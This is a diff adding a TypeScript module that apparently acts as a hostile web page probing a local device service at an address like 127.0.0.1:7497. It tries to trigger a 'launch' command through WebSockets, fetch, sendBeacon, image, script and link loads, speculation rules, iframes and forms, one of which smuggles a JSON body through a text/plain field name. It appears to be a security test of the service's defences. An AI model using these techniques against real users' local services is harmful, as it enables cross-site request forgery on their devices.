@@ -1,0 +1,145 @@
+/**
+ * What a hostile page does in its visitor's browser to reach the device's service: it tries each way, and tells what each
+ * gave. It runs in the browser, as text: it may use nothing of this module.
+ */
+
+export interface AttackResult {
+  readonly way: string;
+  /** What it could read; empty where it could read nothing. */
+  readonly read: string;
+}
+
+/** `target` is the service's authority, such as `127.0.0.1:7497`. */
+export async function attack(target: string): Promise<AttackResult[]> {
+  const request = JSON.stringify({ jsonrpc: "2.0", id: "1", method: "launch", params: "SNES/Game.sfc" });
+  const path = "/l/SNES/Game.sfc";
+  const results: AttackResult[] = [];
+  const timeMs = 1500;
+  const tryOut = async (way: string, run: () => Promise<string>) => {
+    const late = new Promise<string>((resolve) => setTimeout(() => resolve(""), timeMs));
+    const read = await Promise.race([run(), late]).catch(() => "");
+    results.push({ way, read });
+  };
+  const text = async (answer: Response) => (answer.type === "opaque" ? "" : answer.ok ? answer.text() : "");
+  const loaded = (element: HTMLElement, url: string) =>
+    new Promise<string>((resolve) => {
+      // Loading alone is no reading; what matters is whether it launched.
+      element.addEventListener("load", () => resolve(""));
+      element.addEventListener("error", () => resolve(""));
+      element.setAttribute(element.tagName === "LINK" ? "href" : "src", url);
+      document.head.append(element);
+    });
+
+  const socket = (url: string) =>
+    new Promise<string>((resolve) => {
+      const line = new WebSocket(url);
+      const heard: string[] = [];
+      line.addEventListener("open", () => {
+        heard.push("open");
+        for (const one of ["ping", request]) line.send(one);
+      });
+      line.addEventListener("message", ({ data }) => heard.push(String(data)));
+      line.addEventListener("close", () => resolve(heard.join(" ")));
+      setTimeout(() => resolve(heard.join(" ")), timeMs - 200);
+    });
+  await Promise.all([
+    tryOut("WebSocket", () => socket(`ws://${target}/api/v0.1`)),
+    tryOut("WebSocket, by another path", () => socket(`ws://${target}/api`)),
+    tryOut("EventSource", async () => {
+      const events = new EventSource(`http://${target}/api/events`);
+      return new Promise((resolve) => {
+        events.addEventListener("open", () => resolve("open"));
+        events.addEventListener("message", ({ data }) => resolve(String(data)));
+        events.addEventListener("error", () => resolve(""));
+      });
+    }),
+    tryOut("fetch a launch", async () => text(await fetch(`http://${target}${path}`))),
+    tryOut("fetch a launch, no-cors", async () =>
+      text(await fetch(`http://${target}${path}`, { mode: "no-cors", credentials: "include" })),
+    ),
+    tryOut("fetch the events", async () => text(await fetch(`http://${target}/api/v0.1/events`))),
+    tryOut("fetch the page", async () => text(await fetch(`http://${target}/`))),
+    tryOut("fetch the health", async () => text(await fetch(`http://${target}/health`))),
+    ...["text/plain", "application/json", "application/x-www-form-urlencoded"].map((type) =>
+      tryOut(`POST ${type}`, async () =>
+        text(
+          await fetch(`http://${target}/api/v0.1`, {
+            method: "POST",
+            body: request,
+            headers: { "content-type": type },
+          }),
+        ),
+      ),
+    ),
+    tryOut("POST no-cors", async () =>
+      text(await fetch(`http://${target}/api/v0.1`, { method: "POST", mode: "no-cors", body: request })),
+    ),
+    tryOut("sendBeacon", async () => {
+      navigator.sendBeacon(`http://${target}/api/v0.1`, request);
+      return "";
+    }),
+    tryOut("image", () => loaded(document.createElement("img"), `http://${target}${path}?image`)),
+    tryOut("script", () => loaded(document.createElement("script"), `http://${target}${path}?script`)),
+    ...["prefetch", "preload", "stylesheet", "prerender", "icon", "manifest"].map((rel) =>
+      tryOut(`link ${rel}`, async () => {
+        const link = document.createElement("link");
+        link.rel = rel;
+        if (rel === "preload") link.setAttribute("as", "fetch");
+        return loaded(link, `http://${target}${path}?${rel}`);
+      }),
+    ),
+    tryOut("speculation rules", async () => {
+      const rules = document.createElement("script");
+      rules.type = "speculationrules";
+      const urls = [`http://${target}${path}?speculation`];
+      rules.textContent = JSON.stringify({
+        prefetch: [{ source: "list", urls }],
+        prerender: [{ source: "list", urls }],
+      });
+      document.head.append(rules);
+      return "";
+    }),
+    ...[path, "/"].map((inner) =>
+      tryOut(`iframe of ${inner}`, async () => {
+        const frame = document.createElement("iframe");
+        frame.src = `http://${target}${inner}`;
+        const seen = new Promise<string>((resolve) => {
+          frame.addEventListener("load", () => {
+            try {
+              // A refused frame shows the browser's own page, of nobody's origin.
+              resolve(frame.contentDocument?.body.textContent ?? "");
+            } catch {
+              resolve("");
+            }
+          });
+        });
+        document.body.append(frame);
+        return seen;
+      }),
+    ),
+    ...(["get", "post"] as const).flatMap((method) =>
+      ["text/plain", "application/x-www-form-urlencoded"].map((enctype) =>
+        tryOut(`form ${method} ${enctype}, into a frame`, async () => {
+          const frame = document.createElement("iframe");
+          frame.name = `frame-${method}-${enctype}`;
+          const form = document.createElement("form");
+          form.method = method;
+          form.enctype = enctype;
+          form.action = `http://${target}${method === "get" ? path : "/api/v0.1"}`;
+          form.target = frame.name;
+          const field = document.createElement("input");
+          // With text/plain the body becomes JSON: {"jsonrpc":...,"x":"="}.
+          field.name = `${request.slice(0, -1)},"x":"`;
+          field.value = '"}';
+          form.append(field);
+          document.body.append(frame, form);
+          form.submit();
+          return "";
+        }),
+      ),
+    ),
+  ]);
+  // What was sent last has arrived by then.
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return results;
+}
